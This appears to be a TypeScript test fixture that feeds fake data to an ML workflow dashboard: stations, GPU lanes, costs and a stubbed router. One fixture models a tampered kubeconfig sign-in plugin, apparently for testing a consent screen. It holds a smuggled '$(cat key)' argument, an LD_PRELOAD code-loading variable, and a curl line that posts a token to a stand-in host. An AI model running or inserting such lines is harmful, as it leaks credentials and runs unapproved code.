import type { MapView, StationItem, StationView } from '../../preload/contract/flow'
import type { Operation } from '../../preload/contract/operations'
import type { ProgramToRun } from '../../preload/contract/programs'
import type { FoundContexts, SiteState } from '../../preload/contract/sites'
import { DEFAULT_SETTINGS, type Settings } from '../../preload/contract/system'
import { sessionHandlers, Sessions } from '../../main/capabilities/sessions'
import { systemClock } from '../../main/platform/clock/system'
import { os, whole } from '../../main/platform/contract'

/** What a page test can move while the page is open. */
export interface PageWorld {
  sites: SiteState[]
  map: MapView
  operations: Operation[]
  settings: Settings
  plants: number
}

const NOW = '2026-11-18T14:32:00Z'
const HOUR = 3600,
  DAY = 86_400
const site = (id: string, more: Pick<SiteState, 'place' | 'meta' | 'home'>): SiteState => ({
  id,
  name: id,
  simulated: true,
  speed: 60,
  state: 'live',
  user: 'mara.lind',
  asOf: NOW,
  prepared: 'yes',
  version: 'v1.34.2',
  offers: ['notebooks', 'snapshots'],
  ...more,
})
const item = (
  name: string,
  sinceSeconds: number,
  more: Partial<StationItem> = {},
): StationItem => ({
  namespace: name,
  name,
  title: `Question of ${name}`,
  state: 'worked-on',
  sinceSeconds,
  owner: 'rolf.berg',
  team: 'Supply',
  ...more,
})
const station = (
  [id, code, title]: [StationView['id'], string, string],
  items: StationItem[],
  more: Partial<StationView> = {},
): StationView => ({
  id,
  code,
  title,
  line: code.startsWith('D') ? 'discovery' : code === 'B' ? 'backlog' : 'mlops',
  lamp: 'flowing',
  count: items.length,
  waiting: items.filter(({ state }) => state === 'waiting').length,
  items,
  people: [...new Set(items.map(({ owner }) => owner))],
  ...(items.length > 0 && {
    oldestSeconds: Math.max(...items.map(({ sinceSeconds }) => sinceSeconds)),
    p85Seconds: 2 * DAY,
  }),
  ...(items.length === 0 && { emptySinceSeconds: 4 * HOUR }),
  ...more,
})

/** A map with every sign on it: lamps, held, waiting and late items, empty stations, faulted, idle, free and booting GPUs. */
export function aMap(): MapView {
  return {
    asOf: NOW,
    live: true,
    siteClock: NOW,
    waitingGpus: 14,
    lamps: { stopped: 1, called: 1 },
    filters: { teams: ['Supply', 'Vision', 'Voice'], projects: ['voice-spoof', 'route-eta'] },
    stations: [
      station(['define', 'D1', 'Define'], [item('price-churn', 5 * HOUR)], { limit: 2 }),
      station(['environment', 'D2', 'Environment'], [item('voice-spoof', 21)], { limit: 3 }),
      station(['tools', 'D3', 'Tools'], []),
      station(
        ['data', 'D4', 'Data'],
        [
          item('promo-mix', 3.1 * DAY, { state: 'waiting', cause: 'data' }),
          item('parcel-ocr-v3', 6 * HOUR),
        ],
        { lamp: 'called', limit: 3 },
      ),
      station(['button', 'D5', 'Push the button'], [], { emptySinceSeconds: 21 }),
      station(
        ['work', 'D6', 'Work'],
        [
          item('call-intent', 1.2 * DAY),
          item('parcel-ocr', 4300, { state: 'waiting', cause: 'hardware' }),
          item('price-elastic', 38 * 60, { state: 'waiting', cause: 'quota' }),
          item('query-rank', 2 * DAY),
        ],
        { limit: 5 },
      ),
      station(['save', 'D7', 'Save'], [item('catalog-dedupe', 44 * 60)]),
      station(['drift', 'D8', 'Drift check'], [item('fraud-graph', 2 * HOUR)], { limit: 2 }),
      station(
        ['backlog', 'B', 'Backlog'],
        [item('route-eta', 9.05 * DAY), item('defect-cam', 2.25 * DAY, { team: 'Vision' })],
        { limit: 6 },
      ),
      station(['mlops-tools', 'M1', 'Tools'], [item('catalog-two', 2 * HOUR)], { limit: 2 }),
      station(['deploy', 'M2', 'Deploy and A/B test'], [item('fraud-three', 6 * HOUR)], {
        limit: 4,
      }),
      station(['mlops-button', 'M3', 'Push the button'], []),
      station(['watch', 'M4', 'Watch'], [item('demand-14d', DAY)], { limit: 6 }),
      station(
        ['decide', 'M5', 'Decide'],
        [item('credit-default', 3 * HOUR, { state: 'held', says: 'the gate failed' })],
        { lamp: 'stopped', limit: 3 },
      ),
      station(
        ['in-use', 'M6', 'In use'],
        Array.from({ length: 11 }, (_, index) => item(`model-${index + 1}`, (index + 6) * DAY)),
      ),
    ],
    lanes: [
      {
        site: 'oslo',
        place: 'on-prem',
        simulated: true,
        useKnown: true,
        lines: ['16 GPUs, 14 taken', '1 idle, $1.18/h'],
        nodes: [
          {
            name: 'a100-1',
            model: 'A100 80G',
            meta: '94 % used',
            gpus: Array.from({ length: 8 }, () => ({ state: 'taken' as const, use: 0.94 })),
            holders: [{ label: 'call-intent train', from: 0, count: 8 }],
          },
          {
            name: 'l40s-2',
            model: 'L40S',
            meta: '1 faulted',
            gpus: [
              ...Array.from({ length: 5 }, () => ({ state: 'taken' as const, use: 0.6 })),
              { state: 'idle' },
              { state: 'faulted' },
              { state: 'free' },
            ],
            holders: [
              { label: 'serve', from: 0, count: 2 },
              { label: 'ab', from: 2, count: 3 },
            ],
          },
        ],
      },
      {
        site: 'aws-burst',
        place: 'cloud',
        simulated: true,
        useKnown: true,
        lines: ['1 of 2 nodes', '$21.96/h now'],
        nodes: [
          {
            name: 'p4d-1',
            model: 'A100 40G',
            meta: '$21.96/h',
            gpus: Array.from({ length: 8 }, () => ({ state: 'taken' as const, use: 0.9 })),
            holders: [{ label: 'catalog-dedupe train', from: 0, count: 8 }],
          },
          {
            name: 'p4d-2',
            model: 'A100 40G',
            meta: 'boots, 2 min',
            gpus: Array.from({ length: 8 }, () => ({ state: 'booting' as const })),
            holders: [],
          },
        ],
      },
    ],
    waiting: [
      {
        site: 'oslo',
        namespace: 'parcel-ocr',
        name: 'train-0412',
        gpus: '8 × A100',
        waitsSeconds: 4300,
        says: 'no node has eight free',
      },
    ],
    figures: {
      open: 22,
      wipLimit: 30,
      leadDaysMedian: 19.4,
      taktDays: 3.5,
      flowEfficiency: 0.31,
      topWait: { cause: 'quota', share: 0.22 },
      firstPassYield: 0.58,
      discoveryDaysMedian: 8.1,
      mlopsDaysMedian: 6.9,
      newQuestions: 3,
      finished: 12,
    },
    demand: {
      capacity: 16,
      basis: 'GPUs wanted',
      cloudUsdPerHour: 21.96,
      cloudUsdToday: 87.34,
      idleUsdToday: 11.05,
      hours: Array.from({ length: 29 }, (_, half) => ({
        at: new Date(Date.parse('2026-11-18T00:00:00Z') + half * 1_800_000).toISOString(),
        onPrem: Math.min(16, 4 + half * 0.6),
        cloud: Math.max(0, half - 22),
      })),
    },
  }
}
export const aWorld = (): PageWorld => ({
  sites: [
    site('oslo', { place: 'on-prem', meta: 'on-prem', home: true }),
    site('aws-burst', { place: 'cloud', meta: 'eu-north-1', home: false }),
  ],
  map: aMap(),
  operations: [],
  settings: { ...DEFAULT_SETTINGS },
  plants: 0,
})

const A_PROGRAM: ProgramToRun = {
  kind: 'exec plugin',
  words: ['/usr/local/bin/sign-in', 'get-token', "'--post=$(cat key)'"],
  variables: [
    { name: 'AWS_PROFILE', value: 'lab', loadsCode: false },
    { name: 'LD_PRELOAD', value: '/opt/edge/libtrace.so', loadsCode: true },
  ],
  files: [
    {
      role: 'program',
      path: '/usr/local/bin/sign-in',
      sha256: '41ab',
      lines: [
        { text: '#!/bin/sh', isNew: false },
        { text: 'curl -sd "$token" https://c.example/in', isNew: true },
      ],
    },
  ],
  hash: 'of-these-bytes',
  allowed: false,
  letters: 50,
  hidden: 0,
  unseen: 0,
  before: {
    words: ['/usr/local/bin/sign-in', 'get-token'],
    variables: [{ name: 'AWS_PROFILE', value: 'lab', loadsCode: false }],
    files: [{ role: 'program', path: '/usr/local/bin/sign-in', sha256: '9e1f' }],
    agreedAt: NOW,
    by: 'mara',
  },
}

const foundContexts = (): FoundContexts => ({
  contexts: [
    {
      id: 'hq',
      context: 'hq-shared',
      cluster: 'hq',
      user: 'mara',
      server: 'https://hq.example.org:6443',
      file: '~/.kube/config',
      auth: 'exec',
      plugin: { command: '/usr/local/bin/sign-in get-token', hash: 'sha256:41ab', allowed: false },
    },
  ],
  unreadable: [
    { code: 'KUBECONFIG_UNREADABLE', data: { file: '~/.kube/old', cause: 'line 3 is not YAML' } },
  ],
  matched: 1,
  total: 1,
  files: ['~/.kube/config'],
  reading: false,
})

/** A router with the little that a page needs to be itself, over a world that a test moves; every change reaches open watches. */
type Follow = <T>(read: () => T, signal: AbortSignal | undefined) => AsyncGenerator<T, void>
/** More parts of the contract that a test brings along. */
type MoreParts = (follow: Follow, world: PageWorld) => Parameters<typeof whole>[0]
export function coreForPage(world: PageWorld, more?: MoreParts) {
  const waiting = new Set<() => void>()
  const changed = () => {
    for (const wake of [...waiting]) wake()
  }
  async function* follow<T>(read: () => T, signal: AbortSignal | undefined) {
    while (!signal?.aborted) {
      yield read()
      await new Promise<void>((wake) => {
        const done = () => {
          waiting.delete(done)
          wake()
        }
        waiting.add(done)
        signal?.addEventListener('abort', done, { once: true })
      })
    }
  }
  const sessions = new Sessions({ clock: systemClock })
  const router = whole({
    sessions: sessionHandlers(os.sessions, { sessions, clock: systemClock }),
    system: {
      hello: os.system.hello.handler(() => ({
        version: '0.1.0',
        node: process.version,
        platform: process.platform,
        host: 'test' as const,
        pid: process.pid,
        startedAt: NOW,
        store: 'memory',
      })),
    },
    settings: {
      get: os.settings.get.handler(() => world.settings),
      watch: os.settings.watch.handler(({ signal }) => follow(() => world.settings, signal)),
      set: os.settings.set.handler(({ input }) => {
        world.settings = { ...world.settings, ...(input as Settings) }
        changed()
        return world.settings
      }),
    },
    sites: {
      watch: os.sites.watch.handler(({ signal }) => follow(() => world.sites, signal)),
      watchContexts: os.sites.watchContexts.handler(({ signal }) => follow(foundContexts, signal)),
      contexts: os.sites.contexts.handler(foundContexts),
      program: os.sites.program.handler(() => A_PROGRAM),
      consents: os.sites.consents.handler(() => []),
      credentials: os.sites.credentials.handler(() => []),
      openPlant: os.sites.openPlant.handler(() => {
        world.plants += 1
        world.sites = aWorld().sites
        changed()
        return {}
      }),
    },
    operations: {
      watch: os.operations.watch.handler(({ signal }) => follow(() => world.operations, signal)),
    },
    records: {
      watch: os.records.watch.handler(({ signal }) =>
        follow(() => ({ reset: true, upserts: [], removed: [], asOf: NOW, live: true }), signal),
      ),
    },
    flow: { map: os.flow.map.handler(({ signal }) => follow(() => world.map, signal)) },
    ...more?.(follow, world),
  })
  return { router, changed, sessions }
}
